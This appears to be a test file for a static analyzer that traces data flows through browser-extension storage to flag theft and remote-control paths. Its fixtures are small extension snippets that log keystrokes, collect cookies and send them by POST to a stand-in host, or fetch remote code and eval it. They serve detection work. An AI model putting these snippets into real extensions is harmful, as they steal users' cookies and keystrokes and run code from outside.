import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

describe('flows over storage', () => {
  const save = `fetch('https://a.dev/x').then((r) => r.text()).then((code) => chrome.storage.local.set({ code }));`;

  it('lead from a write to a read of the same key', () => {
    const reads = [
      `chrome.storage.local.get('code', ({ code }) => eval(code))`,
      `chrome.storage.local.get(['code', 'other']).then((items) => eval(items.code))`,
      `(async () => { const { code } = await chrome.storage.local.get({ code: '' }); eval(code) })()`,
      `chrome.storage.onChanged.addListener((changes) => eval(changes.code.newValue))`,
    ];
    for (const read of reads)
      assert.ok(
        flowsBetween({ 'worker.js': save, 'content.js': read }).includes(
          'network-response worker.js > code-execution content.js (remote-control, high)',
        ),
        read,
      );
  });

  it('lead from keys that are made up to who reads all keys', () => {
    const files = {
      'content.js': `addEventListener('keyup', ({ key }) => chrome.storage.local.set({ ['k' + Date.now()]: key }))`,
      'worker.js': `chrome.storage.onChanged.addListener((changes) => {
        for (const each of Object.values(changes)) fetch('https://a.dev/k', { method: 'POST', body: each.newValue });
      });`,
    };
    const whole = `chrome.storage.local.get(null, (all) => fetch('https://a.dev/k', { method: 'POST', body: JSON.stringify(all) }))`;
    const flow = 'key-input content.js > network worker.js (theft, medium)';
    assert.ok(flowsBetween(files).includes(flow));
    assert.ok(flowsBetween({ ...files, 'worker.js': whole }).includes(flow));
    const one = `chrome.storage.local.get(name, (items) => fetch(items[name]))`;
    assert.ok(
      !flowsBetween({ ...files, 'worker.js': one })
        .join()
        .includes('key-input content.js > network'),
    );
  });

  it('end at a read of another key', () => {
    const flows = flowsBetween({
      'worker.js': save,
      'content.js': `chrome.storage.local.get('theme', ({ theme }) => eval(theme))`,
    });
    assert.ok(
      !flows.join().includes('network-response worker.js > code-execution'),
      flows.join('\n'),
    );
  });

  it('bring what a page left there to its sink', () => {
    const files = {
      'content.js': `window.addEventListener('message', ({ data }) => chrome.storage.local.set({ home: data.home }))`,
      'worker.js': `chrome.storage.local.get('home', ({ home }) => chrome.tabs.executeScript({ code: home }))`,
    };
    assert.ok(
      flowsBetween(files).includes(
        'page-message content.js > script-injection worker.js (exposure, high)',
      ),
    );
  });

  it('bring what is stored back to a page that asks', () => {
    const files = {
      'content.js': `window.addEventListener('message', (e) => chrome.runtime.sendMessage({ get: e.data.key }, (value) => window.postMessage(value, '*')))`,
      'worker.js': `chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.storage.local.get('token', ({ token }) => reply(token)); return true })`,
    };
    assert.ok(
      flowsBetween(files).some((flow) =>
        flow.startsWith('extension-storage worker.js > page-message content.js (exposure'),
      ),
      flowsBetween(files).join('\n'),
    );
  });

  it('lead through helpers that are told the key, each call by its own', () => {
    const helpers = [
      'const keep = (key, value) => chrome.storage.local.set({ [key]: value });',
      'async function keep(key, value) { const items = { [key]: value }; await chrome.storage.local.set(items) }',
    ];
    for (const helper of helpers) {
      const content = `${helper} keep('crumbs', document.cookie); keep('note', 'calm');`;
      const read = (key: string): string =>
        `chrome.storage.local.get('${key}', (kept) => fetch('https://a.dev/k', { method: 'POST', body: kept.${key} }))`;
      const flow = 'cookies content.js > network worker.js (theft, high)';
      const isFound = (key: string): boolean =>
        flowsBetween({ 'content.js': content, 'worker.js': read(key) }).includes(flow);
      assert.deepEqual([isFound('crumbs'), isFound('note')], [true, false], helper);
    }
  });

  it('lead from keys that are not known to a key that nothing else is written under', () => {
    const keeps = [
      `class Store { set(key, value) { return new Promise((r) => chrome.storage.local.set({ [key]: value }, r)) } } const s = new Store(); s.set('crumbs', document.cookie); s.set('note', 'calm');`,
      `const keep = (key, value) => { const o = {}; o[key] = value; chrome.storage.local.set(o) }; keep('crumbs', document.cookie); keep('note', 'calm');`,
      `for (const [k, v] of [['crumbs', document.cookie], ['note', 1]]) chrome.storage.local.set({ [k]: v });`,
      `chrome.storage.local.set({ crumbs: '' }); chrome.storage.local.set({ [self.name]: document.cookie });`,
    ];
    const worker = `chrome.storage.local.get('crumbs', (kept) => fetch('https://a.dev/k', { method: 'POST', body: kept.crumbs }))`;
    const flow = 'cookies content.js > network worker.js (theft, medium)';
    for (const keep of keeps)
      assert.ok(flowsBetween({ 'content.js': keep, 'worker.js': worker }).includes(flow), keep);
    const known = `chrome.storage.local.set({ crumbs: Date.now() }); ${keeps[3]!}`;
    assert.ok(!flowsBetween({ 'content.js': known, 'worker.js': worker }).includes(flow));
  });

  it('lead through what content scripts leave in the storage of a page', () => {
    const keep = `localStorage.setItem('crumbs', document.cookie); localStorage.note = 'calm';`;
    const send = (key: string): string =>
      `fetch('https://a.dev/k', { method: 'POST', body: localStorage.getItem('${key}') });`;
    const flow = 'cookies content.js > network content.js (theft, high)';
    const isFound = (key: string): boolean =>
      flowsBetween({ 'content.js': `${keep} ${send(key)}`, 'worker.js': '' }).includes(flow);
    assert.deepEqual([isFound('crumbs'), isFound('note')], [true, false]);
  });

  it('lead through the local storage of extension pages', () => {
    const files = {
      'popup.html': '<script src="popup.js"></script>',
      'popup.js': `fetch('https://a.dev').then((r) => r.text()).then((t) => localStorage.setItem('code', t))`,
      'options.html': '<script src="options.js"></script>',
      'options.js': `eval(localStorage.getItem('code'))`,
    };
    assert.ok(
      flowsBetween(files).includes(
        'network-response popup.js > code-execution options.js (remote-control, high)',
      ),
      flowsBetween(files).join('\n'),
    );
  });

  const put: readonly (readonly [string, string])[] = [
    ['a property', 'o.log = e.key'],
    ['a property of a property', 'o.log[e.code] = e.key'],
    ['an element', 'o.log.push(e.key)'],
    ['what is assigned to it', 'Object.assign(o, { log: e.key })'],
    ['another name of a part', 'const log = o.log; log.last = e.key'],
  ];
  for (const [what, change] of put)
    it(`lead through what is read, changed in ${what}, and put back`, () => {
      const files = (key: string): Record<string, string> => ({
        'content.js': `addEventListener('keyup', async (e) => { const o = await chrome.storage.local.get({ log: [], at: 3 }); ${change}; o.at = Date.now(); chrome.storage.local.set(o) })`,
        'worker.js': `chrome.storage.local.get(['${key}'], ({ ${key} }) => fetch('https://a.dev/k', { method: 'POST', body: ${key} }))`,
      });
      const flow = 'key-input content.js > network worker.js (theft, high)';
      assert.ok(flowsBetween(files('log')).includes(flow), flowsBetween(files('log')).join('\n'));
      assert.ok(!flowsBetween(files('at')).join().includes('key-input content.js > network'));
    });

  it('lead through the stores of a database', () => {
    const write = `db.transaction('jar', 'readwrite').objectStore('jar').add(all)`;
    const code = (store: string, read: string): string =>
      `chrome.cookies.getAll({}, (all) => ${write}); const store = db.transaction('${store}').objectStore('${store}'); ${read}`;
    const reads: readonly string[] = [
      `const r = store.getAll(); r.onsuccess = () => fetch('https://a.dev', { method: 'POST', body: r.result })`,
      `store.get(4).onsuccess = (e) => fetch('https://a.dev', { method: 'POST', body: e.target.result })`,
      `store.index('by').openCursor().onsuccess = ({ target }) => fetch('https://a.dev', { method: 'POST', body: target.result.value })`,
      `const all = () => new Promise((done) => { const r = store.getAll(); r.onsuccess = () => done(r.result) }); all().then((body) => fetch('https://a.dev', { method: 'POST', body }))`,
    ];
    const flow = 'cookies worker.js > network worker.js (theft, high)';
    for (const read of reads) {
      const found = flowsBetween({ 'worker.js': code('jar', read) });
      assert.ok(found.includes(flow), `${read}: ${found.join()}`);
      assert.ok(!flowsBetween({ 'worker.js': code('other', read) }).includes(flow), read);
    }
  });
});
